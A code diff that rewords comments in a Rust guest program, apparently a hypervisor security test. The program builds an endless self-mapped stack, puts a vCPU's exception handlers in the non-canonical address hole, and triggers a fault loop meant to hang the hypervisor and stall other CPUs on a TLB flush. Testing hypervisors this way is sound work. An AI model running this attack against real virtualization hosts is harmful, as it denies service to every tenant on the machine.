@@ -1,6 +1,6 @@
-//! Attack: bring up a vCPU whose handlers are in the canonical hole, on a stack without an end. Whoever lets
-//! it in enters a handler, faults on the way to it, enters the handler of that fault, and so on for ever,
-//! without the guest running in between; a CPU that waits for that one's flush waits as long.
+//! Attack: bring up a vCPU whose handlers are in the canonical hole, on an endless stack. A hypervisor that accepts
+//! it would bounce to a handler, fault on the way, bounce that fault, and so on for ever, without running the guest
+//! in between; a CPU that waits for this one's flush would wait as long.
 
 #![no_std]
 #![no_main]
@@ -29,11 +29,11 @@ const HOLE: u64 = 0x0000_8000_0000_0000;
 const SLOTS: core::ops::Range<u64> = 1..201;
 const TOP: u64 = SLOTS.end << 39;
 
-/// A page of 512 times the same entry, as a table can be: read-only. Gives its frame.
+/// Makes a page of 512 copies of one entry, read-only as a table must be. Returns its frame.
 fn full_of(entry: u64) -> u64 {
     let page = allocate_page().expect("a page");
     let address = page.expose_provenance() as u64;
-    // SAFETY: the page is ours, and from here on nobody's.
+    // SAFETY: the page belongs to this function, and is no longer written.
     unsafe {
         page.cast::<[u64; 512]>().write([entry; 512]);
         paging::make_read_only(address).expect("read-only");
@@ -45,7 +45,7 @@ fn frame_at(address: u64) -> u64 {
     mfn_of(pfn_of(address)).expect("the domain's")
 }
 
-/// One page, mapped at every address of [`SLOTS`].
+/// Maps one page at every address of [`SLOTS`].
 fn endless_stack(root: u64) {
     let page = allocate_page().expect("a page").expose_provenance() as u64;
     let l1 = full_of((frame_at(page) << 12) | RAM_FLAGS);
@@ -56,12 +56,12 @@ fn endless_stack(root: u64) {
             ptr: (root << 12) + slot * 8,
             val: (l3 << 12) | TABLE_FLAGS,
         };
-        // SAFETY: nothing of ours is at these addresses.
+        // SAFETY: this guest uses none of these addresses.
         unsafe { paging::set_entries(&[link], DOMID_SELF) }.expect("a stack");
     }
 }
 
-/// Where the vCPU begins: at once it wants a handler.
+/// The entry point of the vCPU. It raises an exception at once.
 extern "C" fn begin() {
     // SAFETY: traps.
     unsafe { asm!("ud2") };
@@ -101,7 +101,7 @@ fn main() {
             cmd: MMUEXT_TLB_FLUSH_ALL,
             ..MmuextOp::default()
         };
-        // SAFETY: a flush changes no mapping. Every CPU that runs a vCPU of ours has to answer.
+        // SAFETY: a flush changes no mapping. Every CPU that runs a vCPU of this domain has to answer.
         let flushed = unsafe { hyper::mmuext_op(&[flush]) };
         attack.any("every CPU flushes", flushed);
     }
